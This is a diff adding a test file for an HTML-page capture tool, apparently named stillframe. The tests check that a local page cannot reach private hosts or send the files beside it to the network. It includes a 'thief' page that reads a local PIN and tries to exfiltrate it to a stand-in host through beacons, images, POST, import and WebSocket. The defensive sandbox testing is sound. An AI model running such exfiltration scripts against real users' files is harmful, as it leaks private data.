@@ -1,0 +1,177 @@
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import sharp from 'sharp';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { runProgram } from '../fixtures/run-program.js';
+import { type Site, startSite } from '../fixtures/site/site.js';
+
+/** A site on the public internet, and one on this machine. */
+let internet: Site;
+let local: Site;
+let dir: string;
+let seen: number;
+beforeAll(async () => {
+  internet = await startSite({ host: '127.0.0.2' });
+  local = await startSite({ host: '127.0.0.1' });
+  for (const site of [internet, local]) {
+    site.route('/open', (_, response) => response.writeHead(200, { 'access-control-allow-origin': '*' }).end('open'));
+  }
+  dir = mkdtempSync(join(tmpdir(), 'stillframe-local-'));
+  mkdirSync(join(dir, 'page_files'));
+  writeFileSync(join(dir, 'data.json'), '{"pin":"4711"}');
+  writeFileSync(join(dir, 'data.html'), '<p>4711</p>');
+  writeFileSync(
+    join(dir, 'worker.js'),
+    "onconnect = ({ports: [p]}) => fetch('data.json').then((a) => a.text()).then((t) => p.postMessage(t))",
+  );
+  writeFileSync(join(dir, 'service.js'), "addEventListener('fetch', (event) => event.respondWith(fetch(event.request)))");
+  writeFileSync(
+    join(dir, 'photo.png'),
+    await sharp({ create: { width: 40, height: 20, channels: 3, background: '#123456' } })
+      .png()
+      .toBuffer(),
+  );
+});
+beforeEach(() => {
+  seen = internet.hits.length;
+});
+afterAll(async () => {
+  await internet[Symbol.asyncDispose]();
+  await local[Symbol.asyncDispose]();
+  rmSync(dir, { recursive: true, force: true });
+});
+
+/** Captures an HTML file beside the others. */
+async function capture(html: string, args: string[] = []) {
+  writeFileSync(join(dir, 'page.html'), html);
+  const run = await runProgram(['capture', 'page.html', '-o', 'page.png', '--force', '--json', '--inspect-page', ...args], {
+    cwd: dir,
+    env: { STILLFRAME_ALLOW_DESTINATIONS: '127.0.0.2' },
+  });
+  expect(run.status, run.stderr).toBe(0);
+  return { text: JSON.parse(run.stdout).inspection.markdown as string, stderr: run.stderr };
+}
+
+const pathsAt = (site: Site) => site.hits.map(({ path }) => path);
+
+/** A page that shows an image of the internet, reads a file, sends what it has read in every way it knows, and shows it. */
+const thief = (read: string) => `<h1>Thief</h1><p id=told>nothing</p><script type=module>
+  const image = (url) => new Promise((done) => Object.assign(new Image(), { src: url, onload: done, onerror: done }));
+  await image('${internet.url('/image/4x4/ff0000.png?before')}');
+  const text = await (async () => { ${read} })().catch((error) => 'failed: ' + error.name);
+  told.textContent = 'It has read ' + text;
+  const to = '${internet.url('/stolen?')}' + encodeURIComponent(text);
+  navigator.sendBeacon(to, text);
+  await Promise.allSettled([
+    image(to),
+    image(to.replace('127.0.0.2', '127.0.0.2.nip.test')),
+    fetch(to, { method: 'POST', body: text, mode: 'no-cors' }),
+    import(to),
+    new Promise((done) => Object.assign(new WebSocket(to.replace('http', 'ws')), { onerror: done, onopen: done })),
+  ]);
+</script>`;
+
+describe('a local page that reads the files beside it', () => {
+  it.each([
+    ['by fetch', "return (await fetch('data.json')).text()"],
+    [
+      'by XMLHttpRequest',
+      "const x = new XMLHttpRequest(); x.open('GET', 'data.json'); x.send(); await new Promise((done) => { x.onload = done }); return x.responseText",
+    ],
+    [
+      'in a frame',
+      "const f = document.body.appendChild(document.createElement('iframe')); f.src = 'data.html'; await new Promise((done) => { f.onload = done }); return f.contentDocument.body.textContent",
+    ],
+    ['as a JSON module', "return (await import('./data.json', { with: { type: 'json' } })).default.pin"],
+    [
+      'in a shared worker',
+      "const { port } = new SharedWorker('worker.js'); return await new Promise((done) => { port.onmessage = ({ data }) => done(data) })",
+    ],
+  ])('%s cannot send them anywhere', async (_, read) => {
+    const { text, stderr } = await capture(thief(read));
+    expect(text).toMatch(/It has read .*4711/);
+    const hosts = pathsAt(internet).slice(seen);
+    expect(hosts.filter((path) => path.includes('4711'))).toEqual([]);
+    expect(hosts).toContain('/image/4x4/ff0000.png?before');
+    expect(stderr).toContain(`127.0.0.2:${internet.port} (`);
+    expect(stderr).toContain(`--allow-network 127.0.0.2:${internet.port}`);
+  });
+
+  it('cannot read the pixels of images, whether they have CORS or not, and still show them on the internet', async () => {
+    const draw = (how: string) => `const i = new Image(); ${how}; i.src = 'photo.png'; await i.decode();
+      const c = document.createElement('canvas').getContext('2d'); c.drawImage(i, 0, 0);
+      return i.width + ' wide, ' + c.getImageData(1, 1, 1, 1).data.join('-')`;
+    const plain = await capture(thief(draw('')));
+    expect(plain.text).toContain('It has read failed: SecurityError');
+    const shared = await capture(thief(draw("i.crossOrigin = ''")));
+    expect(shared.text).toContain('It has read 40 wide, 18-52-86-255');
+    expect(pathsAt(internet).filter((path) => path.includes('18-52-86'))).toEqual([]);
+  });
+
+  it('has no service worker, which could read what the page only shows', async () => {
+    const { text } = await capture(thief("await navigator.serviceWorker.register('service.js'); return 'registered'"));
+    expect(text).toMatch(/It has read failed: \w+/);
+  });
+});
+
+describe('a local page and the network', () => {
+  it('reaches nothing private, and no public address by script, unless it is allowed; one line says so', async () => {
+    const page = `<img src="${local.url('/image/4x4/00ff00.png')}"><p id=told></p><script type=module>
+      for (const url of ['${local.url('/open')}', '${internet.url('/open')}'])
+        told.append(await fetch(url).then((a) => a.text(), () => 'refused'), ' ');
+      await fetch('data.json');
+      told.append(await fetch('${local.url('/open')}').then((a) => a.text(), () => 'refused'));
+    </script>`;
+    const refused = await capture(page);
+    expect(refused.text).toContain('refused refused refused');
+    expect(pathsAt(local)).toEqual([]);
+    const lines = refused.stderr.split('\n').filter((line) => line.includes('Refused to the local page'));
+    expect(lines).toHaveLength(1);
+    const flags = [`127.0.0.1:${local.port}`, `127.0.0.2:${internet.port}`].flatMap((host) => ['--allow-network', host]);
+    for (const flag of flags) expect(lines[0]).toContain(flag);
+    const allowed = await capture(page, flags);
+    expect(allowed.text).toContain('open open open');
+    expect(allowed.stderr).not.toContain('Refused');
+    expect(pathsAt(local)).toContain('/image/4x4/00ff00.png');
+  });
+
+  it('of standard input or --html reaches nothing private either', async () => {
+    const image = local.url('/image/4x4/0000ff.png');
+    const html = `<h1>Piped</h1><img src="${image}">`;
+    for (const [args, input] of [
+      [['capture', '-'], html],
+      [['capture', '--html', html], ''],
+    ] as const) {
+      const run = await runProgram([...args, '-o', 'piped.png', '--force'], { cwd: dir, input });
+      expect(run.status, run.stderr).toBe(0);
+      expect(run.stderr).toContain(`--allow-network 127.0.0.1:${local.port}`);
+    }
+    expect(pathsAt(local)).not.toContain(new URL(image).pathname);
+  });
+
+  it('is refused an option that is no host', async () => {
+    const run = await runProgram(['capture', 'data.html', '--allow-network', 'a/b', '-o', 'no.png'], { cwd: dir });
+    expect(run).toMatchObject({ status: 2 });
+    expect(run.stderr).toContain('--allow-network has "a/b"');
+  });
+});
+
+it('a saved page comes out right with its files, and images of the internet', async () => {
+  writeFileSync(join(dir, 'page_files/a.css'), 'h1 { color: rgb(1, 2, 3); background: url(../photo.png) }');
+  writeFileSync(join(dir, 'page_files/saved_resource.html'), '<p>in the frame</p><script src="inner.js"></script>');
+  writeFileSync(join(dir, 'page_files/inner.js'), "document.body.append('and its script')");
+  writeFileSync(
+    join(dir, 'page_files/a.js'),
+    `addEventListener('load', () => {
+      const widths = [...document.images].map(({ naturalWidth }) => naturalWidth);
+      told.textContent = [getComputedStyle(document.querySelector('h1')).color, ...widths, frames[0].document.body.textContent].join(' ');
+    })`,
+  );
+  const { text, stderr } = await capture(`<link rel=stylesheet href="page_files/a.css"><h1>Saved</h1><p id=told></p>
+    <img src="photo.png"><img src="./photo.png#x" loading=lazy><img src="${internet.url('/image/30x10/ff00ff.png')}">
+    <script src="page_files/a.js"></script><script>addEventListener('load', () => undefined)</script>
+    <iframe src="page_files/saved_resource.html"></iframe>`);
+  expect(text).toMatch(/rgb\(1, 2, 3\) 40 40 30 in the frame\s*and its script/);
+  expect(stderr).not.toContain('Refused');
+});
